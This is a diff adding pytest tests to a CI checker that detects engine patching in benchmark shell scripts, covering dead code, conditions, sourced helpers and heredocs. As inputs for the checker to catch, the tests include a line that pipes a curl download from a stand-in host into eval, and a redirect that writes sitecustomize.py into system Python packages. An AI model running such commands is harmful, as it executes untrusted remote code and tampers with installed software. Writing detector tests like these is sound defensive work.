@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import pytest
 from builders import (
     NEW_ENTRY,
     SCRIPT,
@@ -260,3 +261,128 @@ def test_the_shared_benchmark_library_is_judged_on_the_lines_a_pr_adds(check):
     assert (
         result.status == "FAIL" and "benchmark_lib.sh:6 applies a patch with git" in result.reason
     )
+
+
+# --- what runs: dead code never patches, an undecided patch counts ----------------------------
+
+APPLY = 'git -C /sgl-workspace/sglang apply "$(dirname "$0")/fix-mla.patch"'
+DEAD_PATCHES = {
+    "false &&": f"false && {APPLY}\n",
+    "true ||": f"true || {APPLY}\n",
+    "uncalled function": f"apply_fix() {{\n    {APPLY}\n}}\n",
+    "if false": f"if false; then\n    {APPLY}\nfi\n",
+    "after exit 0": "",
+}
+
+
+def with_line(block: str) -> str:
+    return SCRIPT.replace('hf download "$MODEL"\n', f'hf download "$MODEL"\n{block}')
+
+
+@pytest.mark.parametrize("case", sorted(DEAD_PATCHES))
+def test_patching_only_in_dead_code_is_no_patch(check, case):
+    parts = passing_parts()
+    if case == "after exit 0":
+        script = SCRIPT + f"exit 0\n{APPLY}\n"
+    else:
+        script = with_line(DEAD_PATCHES[case])
+    add_changed_file(parts, SCRIPT_PATH, script)
+    result = check(parts, "engine-patches")
+    assert result.status == "PASS", result.reason
+    assert "no engine patching" in result.reason
+
+
+def test_a_patch_behind_a_condition_that_cannot_be_decided_counts_and_names_it(check):
+    parts = passing_parts()
+    add_changed_file(
+        parts, SCRIPT_PATH, with_line(f"if [ -d /sgl-workspace/sglang ]; then\n    {APPLY}\nfi\n")
+    )
+    result = check(parts, "engine-patches")
+    assert result.status == "FAIL"
+    assert f"{SCRIPT_PATH}:7 applies a patch with git" in result.reason
+    assert "may run: `[ -d /sgl-workspace/sglang ]` (line 6) could not be decided" in result.reason
+
+
+def test_a_patch_in_a_function_the_script_calls_is_found(check):
+    parts = passing_parts()
+    add_changed_file(parts, SCRIPT_PATH, with_line(f"apply_fix() {{\n    {APPLY}\n}}\napply_fix\n"))
+    result = check(parts, "engine-patches")
+    assert result.status == "FAIL" and f"{SCRIPT_PATH}:7 applies a patch with git" in result.reason
+
+
+def test_a_patch_in_the_eval_only_arm_of_a_changed_script_counts(check):
+    parts = passing_parts()
+    block = f'if [ "$EVAL_ONLY" = "true" ]; then\n    {APPLY}\nfi\n'
+    add_changed_file(parts, SCRIPT_PATH, with_line(block))
+    result = check(parts, "engine-patches")
+    assert result.status == "FAIL" and "applies a patch with git" in result.reason
+
+
+def test_a_redirect_that_writes_sitecustomize_into_the_engine_is_found(check):
+    parts = passing_parts()
+    block = "echo 'import fix' > /usr/lib/python3/dist-packages/sitecustomize.py\n"
+    add_changed_file(parts, SCRIPT_PATH, with_line(block))
+    result = check(parts, "engine-patches")
+    assert result.status == "FAIL" and f"{SCRIPT_PATH}:6" in result.reason
+
+
+def test_a_helper_script_called_only_in_dead_code_is_not_read(check, policy):
+    parts = passing_parts()
+    add_changed_file(
+        parts, SCRIPT_PATH, with_line('false && bash "$(dirname "$0")/apply_fix.sh"\n')
+    )
+    ctx = JudgeContext(build(parts), policy, resolve_standard("current", policy))
+    assert list(engine_patches.wants(ctx)) == []
+    assert check(parts, "engine-patches").status == "PASS"
+
+
+def test_a_script_whose_reading_is_incomplete_fails_closed_naming_why(check):
+    parts = passing_parts()
+    add_changed_file(parts, SCRIPT_PATH, with_line('eval "$(curl -s https://example.invalid/x)"\n'))
+    result = check(parts, "engine-patches")
+    assert result.status == "FAIL"
+    assert "could not be fully read" in result.reason and "eval of text" in result.reason
+
+
+def test_a_file_sourced_from_a_run_time_path_is_named_and_the_script_is_read_whole(check):
+    parts = passing_parts()
+    add_changed_file(
+        parts, SCRIPT_PATH, with_line(f'source "$WS_PATH/setup_deps.sh"\nfalse && {APPLY}\n')
+    )
+    result = check(parts, "engine-patches")
+    # what the sourced file defines may change what runs: every command of the script counts
+    assert result.status == "FAIL" and f"{SCRIPT_PATH}:7 applies a patch with git" in result.reason
+    add_changed_file(parts, SCRIPT_PATH, with_line('source "$WS_PATH/setup_deps.sh"\n'))
+    result = check(parts, "engine-patches")
+    assert result.status == "PASS"
+    assert f"not read: `$WS_PATH/setup_deps.sh` (sourced at {SCRIPT_PATH}:6)" in result.reason
+
+
+def test_a_sourced_helper_next_to_the_script_is_read_whole(check):
+    parts = passing_parts()
+    add_changed_file(parts, SCRIPT_PATH, with_line('source "$(dirname "$0")/fixes.sh"\n'))
+    helper = "benchmarks/single_node/fixed_seq_len/fixes.sh"
+    replace_file(parts, helper, "head", f"apply_fix() {{\n    {APPLY}\n}}\n")
+    result = check(parts, "engine-patches")
+    assert result.status == "FAIL" and f"{helper}:2 applies a patch with git" in result.reason
+
+
+def test_an_entry_whose_script_cannot_be_found_fails_closed_naming_the_candidates(check):
+    parts = passing_parts()
+    parts["changed_files"] = [f for f in parts["changed_files"] if f["path"] != SCRIPT_PATH]
+    parts["files"] = [f for f in parts["files"] if f["path"] != SCRIPT_PATH]
+    result = check(parts, "engine-patches")
+    assert result.status == "FAIL"
+    assert "could not be read at the pinned head (" in result.reason
+    assert SCRIPT_PATH in result.reason and "patching is unverified" in result.reason
+
+
+def test_a_patch_in_a_heredoc_a_shell_runs_is_found(check):
+    parts = passing_parts()
+    block = f"bash <<'FIX'\necho patching\n{APPLY}\nFIX\n"
+    add_changed_file(parts, SCRIPT_PATH, with_line(block))
+    result = check(parts, "engine-patches")
+    assert result.status == "FAIL" and f"{SCRIPT_PATH}:8 applies a patch with git" in result.reason
+    # the same text given to a command that only stores it is data
+    add_changed_file(parts, SCRIPT_PATH, with_line(block.replace("bash <<", "cat > notes.txt <<")))
+    assert check(parts, "engine-patches").status == "PASS"
